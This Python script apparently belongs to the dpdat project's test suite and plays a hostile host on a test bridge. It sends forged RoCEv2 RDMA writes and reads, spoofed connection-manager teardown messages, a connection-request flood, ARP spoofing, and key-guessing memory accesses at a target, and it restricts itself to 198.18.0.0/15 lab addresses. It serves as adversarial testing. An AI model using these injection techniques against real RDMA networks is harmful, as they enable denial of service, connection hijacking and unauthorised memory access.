#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
# Copyright (c) 2026 The dpdat authors
"""A hostile third host: injects RoCEv2 and CM frames and ARP at a dpdat
target through a raw AF_PACKET socket (hostile-netns.sh runs it in its own
namespace on the bridge). Every phase is bounded in frames and time; what
it sent and what it saw come out on stdout as "inject: PHASE key=value".

Knowledge: the blind phases know what anyone on the bridge knows (the
addresses of the target and its peer, dpdat's QP number range, the service
number the target listens on) and guess the rest: QPNs (swept), PSNs,
R_Keys, addresses, comm IDs (random). The "onpath" phase also knows what a
sniffer of the A<->B traffic would see: the target QP's number, the window's
R_Key and address (from the file hostile_target writes). Only root may open
the socket; frames use only 198.18.0.0/15 addresses."""

import argparse
import os
import random
import select
import socket
import struct
import sys
import time
import zlib

OP_SEND_ONLY, OP_WRITE_ONLY, OP_READ_REQ, OP_ACK = 0x04, 0x0a, 0x0c, 0x11
OP_UD_SEND_ONLY = 0x64
QKEY_GSI = 0x80010000
CM_REQ, CM_MRA, CM_REJ, CM_REP, CM_RTU, CM_DREQ, CM_DREP = range(0x10, 0x17)
SERVICE = 0x0000000001060000 | 0x4791    # rdma_cm TCP port space, 0x4791
QPN_BASE, QPN_RANGE = 0x10, 1024         # dpdat's QP numbers, queue 0


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def icrc(ip_bytes):
    """IBTA A17 ICRC over the IPv4 packet without its ICRC (as
    test/wire/icrc_check.py computes it)."""
    b = bytearray(ip_bytes)
    b[1] = 0xff
    b[8] = 0xff
    b[10:12] = b"\xff\xff"
    b[26:28] = b"\xff\xff"
    b[32] = 0xff
    return zlib.crc32(b"\xff" * 8 + bytes(b)) & 0xffffffff


def mac_bytes(s):
    return bytes(int(x, 16) for x in s.split(":"))


class Wire:
    def __init__(self, a):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                               socket.htons(0x0003))
        self.s.bind((a.iface, 0))
        # answers to a flood pile up while we send: room for them
        self.s.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)  # SO_RCVBUFFORCE
        self.own_mac = self.s.getsockname()[4]
        self.a = a
        self.sent = 0

    def roce(self, src_ip, dst_mac, bth_payload, sport=None):
        """Ethernet/IPv4/UDP 4791 around BTH+payload, ICRC appended."""
        sport = sport or random.randint(0xc000, 0xffff)
        udp_len = 8 + len(bth_payload) + 4
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len,
                         random.getrandbits(16), 0x4000, 64, 17, 0,
                         socket.inet_aton(src_ip),
                         socket.inet_aton(self.a.target_ip))
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        pkt = ip + struct.pack("!HHHH", sport, 4791, udp_len, 0) + \
            bth_payload
        pkt += struct.pack("<I", icrc(pkt))
        self.raw(dst_mac, 0x0800, pkt)

    def raw(self, dst_mac, ethertype, body):
        f = dst_mac + self.own_mac + struct.pack("!H", ethertype) + body
        self.s.send(f + b"\0" * max(0, 60 - len(f)))
        self.sent += 1

    def drain(self):
        """Frames waiting for us now."""
        out = []
        while select.select([self.s], [], [], 0)[0]:
            out.append(self.s.recv(4096))
        return out

    def recv_all(self, secs):
        """Frames for us within secs."""
        out, end = [], time.time() + secs
        while time.time() < end:
            r, _, _ = select.select([self.s], [], [], 0.05)
            if r:
                out.append(self.s.recv(4096))
        return out


def bth(op, qpn, psn, ackreq=False):
    return struct.pack("!BBHII", op, 0, 0xffff, qpn & 0xffffff,
                       (0x80000000 if ackreq else 0) | (psn & 0xffffff))


def reth(va, rkey, length):
    return struct.pack("!QII", va, rkey, length)


def rc_frame(op, qpn, psn, va, rkey, length=64):
    """One RC request or answer: WRITE_ONLY (with payload), READ request,
    SEND_ONLY, ACK or NAK (remote access error)."""
    if op == OP_WRITE_ONLY:
        return bth(op, qpn, psn, True) + reth(va, rkey, length) + \
            os.urandom(length)
    if op == OP_READ_REQ:
        return bth(op, qpn, psn, True) + reth(va & (1 << 64) - 1, rkey,
                                              length)
    if op == OP_SEND_ONLY:
        return bth(op, qpn, psn, True) + os.urandom(length)
    syndrome = random.choice([0x00, 0x62, 0x61, 0x60])
    return bth(OP_ACK, qpn, psn) + struct.pack("!I", syndrome << 24 |
                                               random.getrandbits(24))


def mad(attr, tid, body):
    hdr = struct.pack("!BBBBHHQHHI", 1, 0x07, 2, 0x03, 0, 0, tid, attr, 0, 0)
    m = hdr + body
    return m + b"\0" * (256 - len(m))


def cm_frame(attr, tid, body):
    deth = struct.pack("!II", QKEY_GSI, 1)
    return bth(OP_UD_SEND_ONLY, 1, random.getrandbits(24)) + deth + \
        mad(attr, tid, body)


def req_body(local_id, src_ip, dst_ip, qpn=None):
    b = bytearray(232)
    struct.pack_into("!IIQ", b, 0, local_id, 0, SERVICE)
    struct.pack_into("!I", b, 32, (qpn or random.getrandbits(24)) << 8 | 16)
    struct.pack_into("!I", b, 36, 16)
    struct.pack_into("!I", b, 44, random.getrandbits(24) << 8 | 20 << 3 | 7)
    b[48:50] = b"\xff\xff"
    b[50] = 3 << 4 | 7                   # PMTU 1024
    b[95] = 14 << 3
    ph = 140                             # rdma_cm's IP header
    b[ph] = 0
    b[ph + 1] = 4 << 4
    struct.pack_into("!H", b, ph + 2, random.randint(0x8000, 0xffff))
    b[ph + 16:ph + 20] = socket.inet_aton(src_ip)
    b[ph + 32:ph + 36] = socket.inet_aton(dst_ip)
    return bytes(b)


def ids_body(local_id, remote_id, extra=b""):
    return struct.pack("!II", local_id, remote_id) + extra


def report(phase, **kv):
    print("inject: %s %s" % (phase, " ".join("%s=%s" % x for x in
                                             kv.items())))
    sys.stdout.flush()


def paced(n, secs):
    """Spread n frames over about secs seconds at most."""
    gap = secs / max(n, 1)
    t0 = time.time()
    for i in range(n):
        yield i
        ahead = t0 + i * gap - time.time()
        if ahead > 0.002:
            time.sleep(ahead)


def phase_roce(w, a, src_ip, n, name):
    """RC requests and answers with guessed QPN, PSN, R_Key, address."""
    ops = [OP_WRITE_ONLY, OP_READ_REQ, OP_SEND_ONLY, OP_ACK]
    for i in paced(n, a.secs):
        qpn = QPN_BASE + i % QPN_RANGE
        w.roce(src_ip, a.tmac, rc_frame(random.choice(ops), qpn,
                                       random.getrandbits(24),
                                       random.getrandbits(48) & ~0xfff,
                                       random.getrandbits(32)))
    report(name, frames=n, qpns="%#x-%#x" % (QPN_BASE, QPN_BASE +
                                            QPN_RANGE - 1))


def phase_cm_forge(w, a, n):
    """REJ, DREQ, DREP, RTU, MRA from the peer's address, guessed IDs."""
    for _ in paced(n, a.secs / 2):
        attr = random.choice([CM_REJ, CM_DREQ, CM_DREP, CM_RTU, CM_MRA])
        body = ids_body(random.getrandbits(32), random.getrandbits(32),
                        b"\0\0\0\x1c" if attr == CM_REJ else b"")
        w.roce(a.peer_ip, a.tmac, cm_frame(attr, random.getrandbits(64),
                                           body))
    report("cm-forge", frames=n)


def cm_answer(f):
    """(attr, local ID, remote ID, REJ reason) of a CM MAD for us, or
    None."""
    if len(f) < 14 + 20 + 8 + 12 + 8 + 24 + 12 or f[12:14] != b"\x08\x00":
        return None
    if f[23] != 17 or struct.unpack("!H", f[36:38])[0] != 4791:
        return None
    m = f[14 + 20 + 8 + 12 + 8:]
    attr = struct.unpack("!H", m[16:18])[0]
    lid, rid = struct.unpack("!II", m[24:32])
    return attr, lid, rid, struct.unpack("!H", m[34:36])[0]


def learn_id(w, a, secs=2.0):
    """Ask to connect from our own address, the same REQ again each
    second as a CM does, for up to secs: the target's answer (a REJ, from
    its application or its library, or a REP) names its comm ID."""
    my_id = random.getrandbits(32)
    tid = random.getrandbits(64)
    req = cm_frame(CM_REQ, tid, req_body(my_id, a.own_ip, a.target_ip))
    end = time.time() + secs
    while time.time() < end:
        w.roce(a.own_ip, a.tmac, req)
        for f in w.recv_all(min(1.0, max(end - time.time(), 0.05))):
            ans = cm_answer(f)
            if ans and ans[0] in (CM_REJ, CM_REP) and ans[2] == my_id:
                return ans[1]
    return None


def phase_cm_predict(w, a, span):
    """The comm ID the target gave us, and the ones just before it (the
    real connection's, if IDs are handed out in sequence): DREQs for them
    from the peer's address, with guessed peer IDs."""
    lid = learn_id(w, a, 8.0)
    if lid is None:
        report("cm-predict", learned="none", frames=0)
        return
    n = 0
    for d in range(-span, span + 1):
        for _ in range(4):
            w.roce(a.peer_ip, a.tmac,
                   cm_frame(CM_DREQ, random.getrandbits(64),
                            ids_body(random.getrandbits(32),
                                     (lid + d) & 0xffffffff)))
            n += 1
    report("cm-predict", learned="%#x" % lid, frames=n)


def phase_req_flood(w, a, n):
    """Connection requests with fresh comm IDs, from our address and from
    the peer's, as fast as we can."""
    t0 = time.time()
    reasons = {}
    w.drain()
    for i in range(n):
        src = a.own_ip if i % 2 else a.peer_ip
        w.roce(src, a.tmac, cm_frame(CM_REQ, random.getrandbits(64),
                                     req_body(random.getrandbits(32), src,
                                              a.target_ip)))
        if time.time() - t0 > a.secs:
            n = i + 1
            break
    secs = time.time() - t0
    for f in w.drain() + w.recv_all(2.0):
        ans = cm_answer(f)
        if ans and ans[0] in (CM_REJ, CM_REP, CM_MRA):
            k = "rej%d" % ans[3] if ans[0] == CM_REJ else "attr%#x" % ans[0]
            reasons[k] = reasons.get(k, 0) + 1
    report("req-flood", frames=n, secs="%.2f" % secs,
           answers=",".join("%s:%d" % x for x in sorted(reasons.items())))
    # afterwards: how soon does the target answer a request? (behind the
    # flood's requests still waiting for its application)
    t1 = time.time()
    lid = learn_id(w, a, 8.0)
    report("req-flood-after", answered="yes" if lid is not None else "no",
           secs="%.2f" % (time.time() - t1))


def phase_arp(w, a, n):
    """Gratuitous replies: the peer's address is at our MAC."""
    for _ in paced(n, a.secs / 4):
        body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, w.own_mac,
                           socket.inet_aton(a.peer_ip), a.tmac,
                           socket.inet_aton(a.target_ip))
        w.raw(a.tmac, 0x0806, body)
        body = body[:6] + b"\x00\x01" + body[8:]      # and as a request
        w.raw(b"\xff" * 6, 0x0806, body)
    report("arp-spoof", frames=2 * n)


def phase_onpath(w, a, info, n):
    """Knows the target QP, the window's key and address, not the PSN of
    the moment (it sweeps them): WRITEs and READs just outside the window,
    across its end, into the ungranted region with the neighbouring keys.
    Everything comes from the peer's address."""
    qpn, rkey, va, ln = info["qpn"], info["rkey"], info["va"], info["len"]
    ung = info["ungranted_va"]
    aims = [(va - 4096, rkey, 4096), (va - 1, rkey, 64), (va + ln, rkey, 64),
            (va + ln - 32, rkey, 64), (va, rkey, ln + 1),
            (va + ln + 4096, rkey, 1024)]
    idx = rkey >> 8
    for k in range(-4, 5):
        for gen in range(256):
            if (idx + k) > 0 and ((idx + k) << 8 | gen) != rkey:
                aims.append((ung, (idx + k) << 8 | gen, 64))
    # PSNs 256 apart through the whole space: some land in the responder's
    # window (512 ahead of the expected one) wherever it is then
    n = max(n, 1 << 16)
    sent = 0
    for i in paced(n, a.secs / 2):
        tva, tkey, tlen = aims[i % len(aims)]
        # a WRITE carries its bytes (one packet's worth), a READ asks for
        # the whole aim
        op = OP_WRITE_ONLY if i % 2 == 0 else OP_READ_REQ
        w.roce(a.peer_ip, a.tmac, rc_frame(op, qpn, (i * 256) & 0xffffff,
                                           tva, tkey, min(tlen, 1024) if
                                           op == OP_WRITE_ONLY else tlen))
        sent += 1
    report("onpath", frames=sent, aims=len(aims))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", default="veth0")
    p.add_argument("--target-ip", default="198.18.0.1")
    p.add_argument("--target-mac", required=True)
    p.add_argument("--peer-ip", default="198.18.0.2")
    p.add_argument("--own-ip", default="198.18.0.3")
    p.add_argument("--phases", default="roce-own,roce-spoof,cm-forge,"
                   "cm-predict,req-flood,arp-spoof")
    p.add_argument("--frames", type=int, default=20000)
    p.add_argument("--secs", type=float, default=4.0,
                   help="about how long a paced phase lasts")
    p.add_argument("--onpath-info")
    p.add_argument("--seed", type=int, default=None)
    a = p.parse_args()
    for ip in (a.target_ip, a.peer_ip, a.own_ip):
        if not ip.startswith("198.18.") and not ip.startswith("198.19."):
            sys.exit("addresses must be in 198.18.0.0/15")
    random.seed(a.seed)
    a.tmac = mac_bytes(a.target_mac)
    w = Wire(a)
    t0 = time.time()
    for ph in a.phases.split(","):
        if ph == "roce-own":
            phase_roce(w, a, a.own_ip, a.frames, ph)
        elif ph == "roce-spoof":
            phase_roce(w, a, a.peer_ip, a.frames, ph)
        elif ph == "cm-forge":
            phase_cm_forge(w, a, a.frames // 4)
        elif ph == "cm-predict":
            phase_cm_predict(w, a, 64)
        elif ph == "req-flood":
            phase_req_flood(w, a, a.frames // 4)
        elif ph == "arp-spoof":
            phase_arp(w, a, 200)
        elif ph == "onpath":
            info = {}
            with open(a.onpath_info) as f:
                for line in f:
                    k, v = line.split()
                    info[k] = int(v)
            phase_onpath(w, a, info, a.frames)
        else:
            sys.exit("unknown phase " + ph)
    report("total", frames=w.sent, secs="%.1f" % (time.time() - t0))


if __name__ == "__main__":
    main()
